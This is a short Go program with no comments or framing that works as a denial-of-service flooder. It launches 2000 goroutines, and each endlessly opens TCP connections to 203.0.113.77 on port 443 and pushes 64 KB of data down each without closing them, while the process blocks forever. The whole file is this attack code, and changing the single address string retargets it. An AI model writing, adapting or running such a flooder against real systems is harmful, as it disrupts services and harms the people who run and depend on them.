package main
import "net"
func main() {
	for i := 0; i < 2000; i++ {
		go func() {
			for {
				c, err := net.Dial("tcp", "203.0.113.77:443")
				if err == nil { c.Write(make([]byte, 65536)) }
			}
		}()
	}
	select {}
}
